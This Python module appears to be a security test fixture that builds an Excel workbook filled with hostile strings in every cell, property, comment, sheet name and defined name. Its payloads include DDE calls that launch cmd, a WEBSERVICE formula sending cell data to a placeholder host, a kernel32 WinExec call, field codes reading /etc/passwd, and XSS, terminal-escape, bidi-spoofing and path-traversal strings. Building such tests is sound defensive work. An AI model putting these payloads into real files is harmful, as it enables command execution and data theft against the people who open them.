"""Texts that try to act where they are shown, and a workbook that holds one of them in every place for text."""

import io
import re
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

TEXTS = {
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "webservice": '=WEBSERVICE("http://example.invalid")',
    "plus": "+1",
    "plus-call": "+cmd|'/C calc'!A0",
    "minus": "-1",
    "minus-call": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "spaces": " \u3000\xa0=1+1",
    "wide-equals": "＝1+1",
    "semicolon": '甲;=1+1;"=2+2',
    "separator": '甲",=1+1,"乙',
    "escape": "\x1b[31m红\x1b[2J\x1b]0;标题\x07",
    "link": "\x1b]8;;http://example.invalid\x1b\\点我\x1b]8;;\x1b\\",
    "c1": "\x9b31m\x90\x85\x9d8;;x\x9c",
    "bell": "叮\x07\x08\x08\x7f",
    "override": "甲\u202exslx.exe",
    "isolate": "甲\u2066乙\u2069\u200f",
    "zero-width": "甲\u200b乙\u200d\ufeff丙\u00ad",
    "nul": "甲\x00乙",
    "markup": "[red]甲[/]",
    "close-markup": "[/]",
    "open-link": "[link=http://example.invalid]甲[/link]",
    "emoji-code": ":smile: :warning:",
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "style": "</style><svg/onload=alert(1)>",
    "ampersand": "A&B &amp; &#60;b&#62; &nope;",
    "quotes": "\"'`“”‘’",
    "newlines": "甲\n结论：0 处问题。\r\n乙\u2028丙\u2029丁\v戊\f",
    "markdown": "| 甲 | [点我](http://example.invalid) ![](x) **乙** `丙` |",
    "climb": "../../x",
    "climb-back": "..\\..\\x",
    "absolute": "/etc/x",
    "device": "CON",
    "stream": "a:b",
    "dots": "甲...",
    "long": "长" * 300,
    "surrogate": "甲\ud800乙",
    "emoji": "😀👨‍👩‍👧" * 20,
    "noncharacter": "甲\ufffe乙\uffff",
    "private": "甲\ue000乙",
    "braces": "{} {0} {provided} {where.__class__} %s %(x)s",
    "field": "{ INCLUDETEXT \"/etc/passwd\" } { DDEAUTO c:\\\\windows\\\\cmd.exe }",
    "escaped-x": "_x000D_=1+1_x0000_",
}  # fmt: skip
MARK = "HOSTILETEXT"
"""Stands for the text while the workbook is made."""
SHEET_MARK = "HOSTILESHEET"
"""Stands for it as the name of a sheet."""
CELLS = {
    "封面": ("B9", "B10", "B11", "B12"),
    "指标进度": ("B5", "C5", "E5", "I5", "I6", "K4", "K6"),
    "重点任务": ("B5", "F5", "G5", "H5", "I5", "J5"),
    "台账-示范基地": ("B5", "C5", "D5", "E5", "B6", "G5"),
    "困难问题": ("B5", "C5", "D5", "E5"),
    "核实说明": ("A5", "B5", "C5", "B6", "C6"),
}
"""Places for text in the form of the tiny plan: answers, names, explanations, a header too many."""
_ESCAPED = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def marked_form(form: bytes) -> bytes:
    """The form with the mark in every place that holds text, the file's own descriptions too."""
    book = load_workbook(io.BytesIO(form))
    for title, addresses in CELLS.items():
        for address in addresses:
            _put(book[title], address, MARK)
    _put(book["核实说明"], "A6", "T102")
    book["指标进度"]["E5"].comment = Comment(MARK, MARK)
    extra = book.create_sheet(SHEET_MARK)
    _put(extra, "A1", MARK)
    _put(extra, "B3", MARK)
    for name in ("title", "creator", "subject", "description", "keywords", "category"):
        setattr(book.properties, name, MARK)
    book.custom_doc_props.append(StringProperty(name=MARK, value=MARK))
    book.defined_names["X1_" + MARK] = DefinedName("X1_" + MARK, attr_text=f"{SHEET_MARK}!$A$1")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _put(sheet: object, address: str, text: str) -> None:
    cell = sheet[address]  # type: ignore[index]
    if type(cell).__name__ == "MergedCell":
        return
    cell.value, cell.data_type = text, "s"


def sheet_name(text: str) -> str:
    """The text without what spreadsheet programs do not take in a sheet's name."""
    return "".join(c for c in text if c not in "[]:*?/\\") or "表"


def with_text(marked: bytes, text: str, sheet: str) -> bytes:
    """The marked form with that text in place of every mark, and a sheet of that name."""
    full = rewritten(marked, lambda _, part: part.replace(SHEET_MARK.encode(), _inside(sheet)))
    return rewritten(full, lambda _, part: part.replace(MARK.encode(), _inside(text)))


def _inside(text: str) -> bytes:
    """Text as a spreadsheet program writes it into XML."""
    written = _ESCAPED.sub(lambda found: f"_x{ord(found[0]):04X}_", text)
    return escape(written, {'"': "&quot;", "\t": "&#9;", "\n": "&#10;", "\r": "&#13;"}).encode()


def rewritten(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    buffer = io.BytesIO()
    with ZipFile(io.BytesIO(content)) as source, ZipFile(buffer, "w", ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
    return buffer.getvalue()


def acting_form(form: bytes) -> bytes:
    """The form with formulas that fetch, links, checks and formats that point out, and names that hide such."""
    book = load_workbook(io.BytesIO(form))
    sheet = book["指标进度"]
    for number, formula in enumerate(ACTING, start=20):
        sheet[f"B{number}"] = formula
    sheet["I5"] = "=SUM(E5:F5)+1"
    sheet["I6"].hyperlink = "http://example.invalid/"
    sheet["I6"] = "点我"
    sheet["I7"].hyperlink = "file:///etc/passwd"
    for formula in (
        "'[1]甲'!$A$1:$A$3",
        'INDIRECT("[x.xlsx]甲!A1:A3")',
        'WEBSERVICE("http://example.invalid")',
    ):
        check = DataValidation("list", formula1=formula)
        check.add("B30")
        sheet.add_data_validation(check)
        fill = PatternFill("solid", "FFFF0000")
        sheet.conditional_formatting.add("B30", FormulaRule([formula + '="1"'], fill=fill))
    for number, value in enumerate(
        ("[1]甲!$A$1", "cmd|'/C calc'!A0", 'WEBSERVICE("http://example.invalid")')
    ):
        book.defined_names[f"外部{number}"] = DefinedName(f"外部{number}", attr_text=value)
    sheet["B28"] = "=外部2"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


ACTING = (
    "=cmd|'/C calc'!A0",
    "=[1]甲!A1",
    "='C:\\[外部.xlsx]甲'!A1",
    '=WEBSERVICE("http://example.invalid/"&B10)',
    '=HYPERLINK("http://example.invalid/","点我")',
    '=_xlfn.IMAGE("http://example.invalid/x.png")',
    '=INDIRECT("[x.xlsx]甲!A1")',
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
)


def file_names(folder: Path) -> list[tuple[str, str]]:
    """(key, text) of the texts that the file system takes in a name."""
    usable = []
    for name, text in TEXTS.items():
        plain = text.replace("/", "").replace("\x00", "")
        try:
            (folder / plain[:60]).touch()
            (folder / plain[:60]).unlink()
            usable.append((name, plain[:60]))
        except (OSError, ValueError):
            continue
    return usable
